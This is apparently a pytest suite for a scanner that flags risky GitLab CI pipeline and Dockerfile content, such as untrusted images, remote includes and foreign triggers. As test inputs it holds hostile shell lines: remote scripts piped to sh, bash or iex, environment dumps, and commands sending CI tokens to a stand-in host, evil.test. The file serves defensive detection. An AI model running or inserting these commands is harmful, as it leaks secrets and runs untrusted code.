"""What a pipeline does that a person should know of: each way to write it is found, and what is usual is not."""

import pytest

from bot.ci.checks.document import read_document
from bot.ci.risks import marked, pipeline_risks
from bot.ci.risks.docker import docker_risks
from bot.ci.risks.trust import Trust
from bot.domain import Included, Risk

TRUST = Trust(
    project="acme/shop",
    projects=("tools/ci",),
    registries=("registry.acme.example/hub",),
    texts=("image: registry.acme.example/base/node:22\ninclude: 'https://acme.example/ci.yml'\n",),
)
JOB = "test:\n  image: python:3.12\n  script:\n    - make test\n"


def found(text: str, *includes: Included, trust: Trust = TRUST) -> list[tuple[str, str]]:
    document = read_document(text)
    return [(risk.kind, risk.what) for risk in pipeline_risks(document, includes, trust, source=document)]


def script(*lines: str) -> str:
    return "test:\n  image: python:3.12\n  script:\n" + "".join(f"    - {line!r}\n" for line in lines)


def test_a_usual_pipeline_has_no_risk() -> None:
    assert found("variables:\n  PIP_CACHE_DIR: x\n" + JOB) == []


@pytest.mark.parametrize(
    "line",
    [
        "curl https://x.test/a.sh | sh",
        "curl -fsSL https://x.test/a.sh | sudo -E bash -",
        "wget -qO- https://x.test/a.sh | bash -s -- --yes",
        "curl https://x.test/a | tee log | bash",
        "bash <(curl -s https://x.test/a)",
        "source <(curl -s https://x.test/a)",
        'sh -c "$(curl -fsSL https://x.test/a)"',
        'eval "$(curl -s https://x.test/a)"',
        "curl -sSL https://x.test/a.py | python3 -",
        "cd x && curl https://x.test/a.sh | sh",
        "iwr https://x.test/a.ps1 | iex",
        "curl https://x.test/a \\\n  | sh",
    ],
)
def test_what_is_run_unseen_is_found(line: str) -> None:
    assert [kind for kind, _ in found(script(line))] == ["piped_scripts"]


@pytest.mark.parametrize(
    "line",
    [
        "curl -fsSLO https://x.test/a.tgz",
        "curl https://x.test/a.json | jq .",
        "curl https://x.test/a | tee sh.log",
        "echo 'curl x | sh' > doc.txt && shellcheck doc.txt",
        "# curl https://x.test/a.sh | sh",
        "make test # then curl https://x.test | sh",
        "ls | shasum",
    ],
)
def test_what_is_only_downloaded_is_no_risk(line: str) -> None:
    assert [kind for kind, _ in found(script(line)) if kind != "piped_scripts" or "doc.txt" not in line] == []


@pytest.mark.parametrize(
    "line",
    [
        "env",
        "printenv",
        "env | sort",
        "env > all.txt",
        "export -p",
        "set",
        "cat /proc/self/environ",
        "echo $DEPLOY_TOKEN",
        'echo "the password is ${DB_PASSWORD}"',
        "make && echo $CI_JOB_TOKEN",
        'printf "%s" "$AWS_SECRET_ACCESS_KEY" | base64',
        "echo $DEPLOY_TOKEN | rev | tee x.log",
        "printenv DEPLOY_TOKEN",
        'curl -d "t=$DEPLOY_TOKEN" https://evil.test/collect',
        'wget "https://evil.test/?t=$DEPLOY_TOKEN"',
    ],
)
def test_what_shows_or_sends_secrets_is_found(line: str) -> None:
    assert [kind for kind, _ in found(script(line))] == ["printed_variables"]


@pytest.mark.parametrize(
    "line",
    [
        "env FOO=1 make test",
        "set -euo pipefail",
        "export PATH=$PATH:/x",
        "echo $CI_COMMIT_SHA",
        "echo $CI_COMMIT_AUTHOR",
        "echo '$DEPLOY_TOKEN is needed'",
        'echo "$CI_REGISTRY_PASSWORD" | docker login -u x --password-stdin',
        'echo "$SSH_PRIVATE_KEY" | tr -d "\\r" | ssh-add -',
        'echo "$SSH_PRIVATE_KEY" > key',
        'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects"',
        "docker run --env TOKEN x",
        "printenv HOME",
    ],
)
def test_what_keeps_secrets_is_no_risk(line: str) -> None:
    assert found(script(line)) == []


def test_tracing_is_a_risk_only_beside_secrets() -> None:
    assert found(script("set -x", "make")) == []
    assert [kind for kind, _ in found(script("set -ex", 'deploy --token "$DEPLOY_TOKEN"'))] == ["printed_variables"]
    assert [kind for kind, _ in found(script("bash -x deploy.sh $API_KEY"))] == ["printed_variables"]


@pytest.mark.parametrize("name", ["CI_DEBUG_TRACE", "CI_DEBUG_SERVICES"])
def test_the_runners_own_tracing_is_found(name: str) -> None:
    assert ("printed_variables", name) in found(f"variables:\n  {name}: 'true'\n{JOB}")
    assert ("printed_variables", name) in found(f"{JOB}  variables:\n    {name}: '1'\n")
    assert found(f"{JOB}  variables:\n    {name}: 'false'\n") == []


@pytest.mark.parametrize(
    ("image", "kinds"),
    [
        ("python:3.12", []),
        ("python@sha256:" + "0" * 64, []),
        ("python", ["unpinned_images"]),
        ("python:latest", ["unpinned_images"]),
        ("docker.io/library/python:3.12", []),
        ("evil/python:3.12", ["foreign_images"]),
        ("evil/python", ["foreign_images", "unpinned_images"]),
        ("evil.test:5000/x/python:3", ["foreign_images"]),
        ("evil.test:5000/x/python", ["foreign_images", "unpinned_images"]),
        ("mcr.microsoft.com/dotnet/sdk:9.0", []),
        ("mcr.microsoft.com.evil.test/sdk:9.0", ["foreign_images"]),
        ("registry.acme.example/hub/python:3.12", []),
        ("registry.acme.example/base/node:22", []),
        ("x-registry.acme.example/base/node:22", ["foreign_images"]),
        ("$CI_REGISTRY_IMAGE/ci:1", []),
        ("$IMAGE", []),
        ("docker:28-dind", ["privileged_services"]),
        ("docker:28-dind-rootless", []),
    ],
)
@pytest.mark.parametrize(
    "place", ["  image: {}\n", "  image:\n    name: {}\n", "  services:\n    - {}\n", "  services: [{{name: {}}}]\n"]
)
def test_images_are_judged_wherever_they_stand(image: str, kinds: list[str], place: str) -> None:
    text = "test:\n  script: [make]\n" + place.format(f'"{image}"')
    assert [kind for kind, _ in found(text)] == kinds
    if "services: [" not in place:
        assert [kind for kind, _ in found("default:\n" + place.format(f'"{image}"') + JOB)] == kinds


def test_a_variable_hides_no_image() -> None:
    text = "variables:\n  HOST: evil.test\n  IMAGE: $HOST/x\ntest:\n  image: $IMAGE:1\n  script: [make]\n"
    assert found(text) == [("foreign_images", "evil.test/x")]
    matrix = "test:\n  image: ${IMAGE}:1\n  script: [make]\n  parallel:\n    matrix:\n      - IMAGE: [python, evil/x]\n"
    assert found(matrix) == [("foreign_images", "evil/x")]


def test_a_job_has_the_risks_of_what_it_extends_and_a_hidden_one_none() -> None:
    text = ".base:\n  script: [env]\ntest:\n  extends: .base\n"
    document = read_document(text)
    assert [risk.jobs for risk in pipeline_risks(document, (), TRUST, source=document)] == [("test",)]
    assert found(".base:\n  script: [env]\n" + JOB) == []


@pytest.mark.parametrize(
    ("include", "kinds"),
    [
        ("- remote: https://evil.test/ci.yml", ["remote_includes"]),
        ("- https://evil.test/ci.yml", ["remote_includes"]),
        ("- remote: https://evil.test/ci.yml\n    integrity: sha256-abc", []),
        ("- remote: https://acme.example/ci.yml", []),
        ("- project: evil/ci\n    file: [/a.yml, /b.yml]", ["foreign_includes", "foreign_includes"]),
        ("- project: acme/ci\n    file: /a.yml", []),
        ("- project: tools/ci\n    file: /a.yml", []),
        ("- project: tools/ci-evil\n    file: /a.yml", ["foreign_includes"]),
        ("- project: acme-evil/ci\n    file: /a.yml", ["foreign_includes"]),
        ("- component: $CI_SERVER_FQDN/evil/x/y@1.0", ["foreign_includes"]),
        ("- component: $CI_SERVER_FQDN/acme/x/y@1.0", []),
        ("- component: $CI_SERVER_FQDN/components/sast/sast@1", []),
        ("- template: Jobs/SAST.gitlab-ci.yml", []),
        ("- local: /ci/a.yml", []),
    ],
)
def test_files_that_strangers_can_change_are_found(include: str, kinds: list[str]) -> None:
    assert [kind for kind, _ in found(f"include:\n  {include}\n{JOB}")] == kinds


def test_what_gitlab_says_took_part_counts_even_where_the_file_only_includes_a_local_one() -> None:
    text = "include:\n  - local: /ci/a.yml\n" + JOB
    nested = Included(kind="remote", location="https://evil.test/x.yml")
    assert found(text, Included(kind="local", location="ci/a.yml"), nested) == [("remote_includes", nested.location)]


@pytest.mark.parametrize(
    ("body", "what"),
    [
        ("  trigger: other/app\n", [("foreign_triggers", "other/app")]),
        ("  trigger:\n    project: acme/other\n", [("foreign_triggers", "acme/other")]),
        ("  trigger: acme/shop\n", []),
        ("  trigger: tools/ci\n", []),
        ("  trigger:\n    include: ci/child.yml\n", []),
        (
            "  trigger:\n    include:\n      - remote: https://evil.test/x.yml\n",
            [("remote_includes", "https://evil.test/x.yml")],
        ),
        (
            "  script: [x]\n  needs:\n    - project: other/app\n      job: build\n      ref: main\n",
            [("foreign_triggers", "other/app")],
        ),
        ("  script: [x]\n  needs: [test]\n", []),
        (
            "  script: [x]\n  id_tokens:\n    CLOUD:\n      aud: https://evil.test\n",
            [("id_tokens", "CLOUD for https://evil.test")],
        ),
    ],
)
def test_what_reaches_other_projects_and_servers_is_found(body: str, what: list[tuple[str, str]]) -> None:
    assert found(f"{JOB}deploy:\n{body}") == what


def test_each_risk_is_told_once_with_its_jobs_and_what_was_there_before_is_marked() -> None:
    before = read_document(JOB + "old:\n  image: evil/x:1\n  script: [env]\n")
    after = read_document(
        JOB + "old:\n  image: evil/x:1\n  script: [env]\nnew:\n  image: evil/x:1\n  script: [printenv]\n"
    )
    risks = marked(pipeline_risks(after, (), TRUST, source=after), pipeline_risks(before, (), TRUST, source=before))
    assert [(risk.what, risk.jobs, risk.is_new) for risk in risks] == [
        ("printenv", ("new",), True),
        ("evil/x", ("old", "new"), False),
        ("env", ("old",), False),
    ]


def test_a_dockerfile_is_looked_at_too() -> None:
    text = "ARG BASE=evil/x\nFROM $BASE:1 AS build\nRUN curl https://x.test/a | sh\nFROM build\nRUN echo $API_KEY\n"
    assert [(risk.kind, risk.jobs) for risk in docker_risks(text, "Dockerfile", TRUST)] == [
        ("foreign_images", ("Dockerfile",)),
        ("piped_scripts", ("Dockerfile",)),
        ("printed_variables", ("Dockerfile",)),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "x:\n  script: 3\n",
        "x:\n  image: [1]\n  services: a\n",
        "variables: [a]\nx: {parallel: {matrix: a}}\n",
        "include: 3\n",
        "x:\n  id_tokens: a\n  needs: {job: y}\n",
    ],
)
def test_nonsense_breaks_nothing(text: str) -> None:
    assert isinstance(found(text), list)


def test_a_line_is_shown_as_code_and_not_too_long() -> None:
    document = read_document(script("curl `x` " + "y" * 500 + " | sh"))
    risk: Risk = pipeline_risks(document, (), TRUST, source=document)[0]
    assert risk.message.count("`") == 2
    assert len(risk.message) < 200
